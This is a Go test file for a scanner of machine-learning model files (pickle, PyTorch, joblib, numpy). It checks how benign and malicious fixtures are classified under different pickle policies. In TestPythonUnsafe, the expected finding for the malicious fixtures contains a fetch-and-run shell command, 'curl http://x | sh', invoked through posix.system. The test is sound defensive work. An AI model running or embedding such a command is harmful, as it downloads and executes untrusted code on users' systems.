package scan

import (
	"strings"
	"testing"
)

func TestPythonBenign(t *testing.T) {
	cases := []struct{ file, format string }{
		{"good_state_dict.pt", "pytorch-zip"},
		{"good_legacy.pt", "pytorch-legacy"},
		{"good_numpy.pkl", "pickle"},
		{"good_plain.pkl", "pickle"},
		{"good.npy", "npy"},
		{"good.npz", "npz"},
		{"good_arrays.joblib", "pickle"},
		{"good_arrays_zlib.joblib", "zlib"},
		{"good_arrays_gzip.joblib", "gzip"},
		{"good_arrays_bz2.joblib", "bz2"},
		{"good_arrays_xz.joblib", "xz"},
		{"good_arrays_lzma.joblib", "lzma"},
		{"good_object_array.joblib", "pickle"},
	}
	for _, c := range cases {
		t.Run(c.file, func(t *testing.T) {
			want := Allowed
			if c.format == "npy" || c.format == "npz" {
				want = Clean
			} else if rep := scanPy(t, c.file, Options{}); rep.Verdict != Refused {
				t.Fatalf("default policy: got %s, want refused: %+v", rep.Verdict, rep.Findings)
			}
			rep := scanPy(t, c.file, Options{Pickle: PickleAllowSafe})
			if rep.Verdict != want || rep.Format != c.format {
				t.Fatalf("got %s %s, want %s %s: %+v", rep.Format, rep.Verdict, want, c.format, rep.Findings)
			}
			for _, f := range rep.Findings {
				for _, g := range f.Globals {
					if g.Class != ClassSafe {
						t.Errorf("global %s classified %s", g, g.Class)
					}
				}
			}
		})
	}
}

func TestPythonStateDictListsRebuilders(t *testing.T) {
	rep := scanPy(t, "good_state_dict.pt", Options{})
	var names []string
	for _, f := range rep.Findings {
		if f.Format == "pickle" && strings.HasSuffix(f.Member, "/data.pkl") {
			for _, g := range f.Globals {
				names = append(names, g.String())
			}
		}
	}
	got := strings.Join(names, " ")
	for _, want := range []string{"collections.OrderedDict", "torch._utils._rebuild_tensor_v2", "torch.FloatStorage", "torch.LongStorage", "torch.BoolStorage"} {
		if !strings.Contains(got, want) {
			t.Errorf("globals %q lack %s", got, want)
		}
	}
	if rep.Summary == nil || rep.Summary.Tensors != 4 {
		t.Errorf("summary %+v, want 4 tensor storages", rep.Summary)
	}
}

func TestPythonUnsafe(t *testing.T) {
	files := []string{"evil_p0.pkl", "evil_p1.pkl", "evil_p2.pkl", "evil_p3.pkl", "evil_p4.pkl", "evil_p5.pkl",
		"evil_zip.pt", "evil_legacy.pt", "evil_zlib.joblib", "evil_gzip.joblib", "evil_bz2.joblib",
		"evil_xz.joblib", "evil_lzma.joblib", "evil_object.npy", "evil_object_array.joblib"}
	for _, file := range files {
		t.Run(file, func(t *testing.T) {
			rep := scanPy(t, file, Options{Pickle: PickleAllow})
			if rep.Verdict != Unsafe {
				t.Fatalf("verdict %s, want unsafe even with AllowPickle: %+v", rep.Verdict, rep.Findings)
			}
			checkReported(t, rep, "posix.system", "posix.system('curl http://x | sh')")
		})
	}
}

// TestPythonUnknownGlobals pins the policy for pickles outside the
// safe list: refused by default and under allow-safe, a warning with allow,
// let in under allow-safe when the user lists the modules as safe.
func TestPythonUnknownGlobals(t *testing.T) {
	cases := []struct {
		name string
		opts Options
		want Verdict
	}{
		{"default refuses", Options{}, Refused},
		{"allow-safe refuses", Options{Pickle: PickleAllowSafe}, Refused},
		{"allow pickle warns", Options{Pickle: PickleAllow}, Allowed},
		{"listed modules are safe", Options{Pickle: PickleAllowSafe, AllowGlobals: []string{"sklearn.*"}}, Allowed},
		{"listed modules are still pickles", Options{AllowGlobals: []string{"sklearn.*"}}, Refused},
		{"one global listed is not enough", Options{Pickle: PickleAllowSafe, AllowGlobals: []string{"numpy.random.x"}}, Refused},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			rep := scanPy(t, "sklearn.joblib", c.opts)
			if rep.Verdict != c.want {
				t.Fatalf("verdict %s, want %s: %+v", rep.Verdict, c.want, rep.Findings)
			}
			if !strings.Contains(rep.Findings[0].Message, "sklearn.linear_model._logistic.LogisticRegression") {
				t.Errorf("finding does not name the sklearn class: %+v", rep.Findings[0])
			}
		})
	}
}
